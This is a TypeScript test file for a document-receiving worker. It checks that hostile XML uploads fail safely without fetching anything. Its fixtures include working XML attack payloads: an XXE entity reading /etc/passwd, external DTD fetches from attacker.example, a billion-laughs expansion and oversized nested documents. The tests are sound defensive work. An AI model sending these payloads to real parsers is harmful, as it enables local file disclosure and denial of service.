// Hostile XML (§21): a received document is never read by resolving an entity, a DTD or an external reference,
// and no file costs unbounded memory or time. Each of these is accepted as XML at upload, then fails on the queue
// with its reason, without reaching out anywhere; the worker keeps answering.
import { env } from 'cloudflare:workers';
import { beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { call } from '../helpers/api';
import { createUser, type TestUser } from '../helpers/factories';
import { readOnQueue, uploadDocument } from '../helpers/inbound';

const UBL = 'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"';
const lol = (n: number) => `<!ENTITY lol${n} "${`&lol${n - 1};`.repeat(10)}">`;
const TEN_MB = 10 * 1024 * 1024;

const HOSTILE: [string, string, RegExp][] = [
  ['XXE: an external entity naming a local file', `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice ${UBL}><cbc:ID>&xxe;</cbc:ID></Invoice>`, /DOCTYPE/],
  ['an external DTD on the network', `<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "https://attacker.example/invoice.dtd"><Invoice ${UBL}><cbc:ID>1</cbc:ID></Invoice>`, /DOCTYPE/],
  ['a parameter entity fetching a DTD', `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "https://attacker.example/e.dtd"> %remote;]><Invoice ${UBL}/>`, /DOCTYPE/],
  ['billion laughs', `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${Array.from({ length: 9 }, (_, i) => lol(i + 1)).join('')}]><lolz>&lol9;</lolz>`, /DOCTYPE/],
  ['an entity no DTD defines', `<?xml version="1.0"?><Invoice ${UBL}><cbc:ID>&unknown;</cbc:ID></Invoice>`, /not one of XML's five predefined entities/],
  ['elements nested 3 million deep (about 9 MB)', `<?xml version="1.0"?>${'<a>'.repeat(3_000_000)}`, /nested deeper than/],
  ['300,000 sibling elements', `<?xml version="1.0"?><r>${'<a/>'.repeat(300_000)}</r>`, /more than 200000 elements/],
  ['10 MB of sibling elements', `<?xml version="1.0"?><r>${'<a/>'.repeat((TEN_MB - 40) / 4)}</r>`, /longer than 10000000 characters/],
  ['a document cut short', `<?xml version="1.0"?><Invoice ${UBL}><cbc:ID>1</cbc:ID>`, /never closed/],
];

let me: TestUser;
beforeAll(async () => {
  me = await createUser('Receiver');
});
beforeEach(() => {
  vi.restoreAllMocks();
  vi.spyOn(env.INBOUND_QUEUE, 'send').mockResolvedValue(undefined as never);
});

describe('hostile XML', () => {
  it.each(HOSTILE)('%s: received, then failed with its reason, nothing fetched, the worker still answering', async (_, xml, reason) => {
    const fetched = vi.spyOn(globalThis, 'fetch');
    const upload = await uploadDocument(me.key, xml, { contentType: 'application/xml' });
    expect(upload.status, JSON.stringify(upload.body).slice(0, 300)).toBe(202);
    const result = await readOnQueue(upload.body.id);
    expect(result.explicitAcks).toHaveLength(1);

    const doc = (await call('GET', `/v1/inbound-documents/${upload.body.id}`, { key: me.key })).body;
    expect(doc).toMatchObject({ status: 'failed', format: null, extracted: null, validation: null });
    expect(doc.failure_reason).toMatch(reason);
    expect(doc.failure_reason).not.toContain('/etc/passwd');
    expect(fetched).not.toHaveBeenCalled();
    expect((await call('GET', '/health')).status).toBe(200);
    expect((await call('GET', '/v1/inbound-documents?limit=1', { key: me.key })).status).toBe(200);
  });
});
